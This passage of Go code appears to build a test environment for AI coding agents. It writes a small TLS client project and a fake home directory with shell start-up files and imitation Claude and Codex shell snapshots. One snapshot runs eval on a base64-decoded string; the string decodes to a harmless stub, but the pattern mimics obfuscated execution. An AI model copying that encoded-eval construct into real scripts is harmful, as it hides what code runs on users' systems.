	pem, err := os.ReadFile(os.Getenv("FIX") + "/project/testdata/server.pem")
	if err != nil {
		panic(err)
	}
	pool.AppendCertsFromPEM(pem)
	conn, err := tls.Dial("tcp", strings.TrimPrefix(os.Getenv("HTTPS_URL"), "https://"), &tls.Config{RootCAs: pool})
	if err != nil {
		panic(err)
	}
	defer conn.Close()
	fmt.Fprint(conn, "GET / HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n")
	r := bufio.NewReader(conn)
	status, err := r.ReadString('\n')
	if err != nil {
		panic(err)
	}
	fmt.Println(strings.TrimSpace(status), Half(8))
}
`, 0o644)
	write("go/half.go", "package main\n\n// Half halves.\nfunc Half(x int) int { return x / 2 }\n", 0o644)
	write("go/half_test.go", "package main\n\nimport \"testing\"\n\nfunc TestHalf(t *testing.T) {\n\tif Half(8) != 4 {\n\t\tt.Fatal(Half(8))\n\t}\n}\n", 0o644)

	// A home as people have it: shell start-up files, the agents'
	// snapshots, a global git configuration.
	home(".profile", "[ -f \"$HOME/.bashrc\" ] && . \"$HOME/.bashrc\"\nexport PATH=\"$HOME/.local/bin:$PATH\"\n")
	home(".bashrc", "alias ll='ls -l'\nexport EDITOR=vim\n")
	home(".zshrc", "alias ll='ls -l'\nalias gs='git status'\nexport EDITOR=vim\n")
	home(".gitconfig", "[init]\n\tdefaultBranch = master\n[advice]\n\tdetachedHead = false\n")
	home(".claude/settings.json", "{\"permissions\": {}}\n")
	home(".claude/shell-snapshots/snapshot-bash-1768756242719-p4cllc.sh", strings.ReplaceAll(`# Snapshot file
# Unset all aliases to avoid conflicts with functions
unalias -a 2>/dev/null || true
# Functions
eval "$(echo 'bnZtICgpIHsgOjsgfQo=' | base64 -d)" > /dev/null 2>&1
# Shell Options
shopt -u autocd
shopt -s checkwinsize
set -o braceexpand
set -o hashall
# Aliases
alias -- ll='ls -l'
# Check for rg availability
if ! (unalias rg 2>/dev/null; command -v rg) >/dev/null 2>&1; then
  function rg {
    if [[ -n $ZSH_VERSION ]]; then
      ARGV0=rg HOME/.local/share/claude/versions/2.1.0 "$@"
    else
      (exec -a rg HOME/.local/share/claude/versions/2.1.0 "$@")
    fi
  }
fi
export PATH=HOME/.local/bin:/usr/local/go/bin:/usr/local/bin:/usr/bin:/bin
`, "HOME/", b.home+"/"))
	home(".codex/shell_snapshots/0199a1b2.sh", strings.ReplaceAll(`# Snapshot file
# Unset all aliases to avoid conflicts with functions
unalias -a 2>/dev/null || true
# Functions
nvm () 
{ 
    echo nvm
}

# setopts 3
set -o braceexpand
set -o hashall
set -o interactive-comments

# aliases 1
alias ll='ls -l'

# exports 2
declare -x HOME="HOME"
declare -x PATH="HOME/.cargo/bin:/usr/local/go/bin:/usr/local/bin:/usr/bin:/bin"
`, "HOME", b.home))
	// The battery's own repository for the agents' commands is made by
	// the git step in each workspace.
	return srv.URL
}
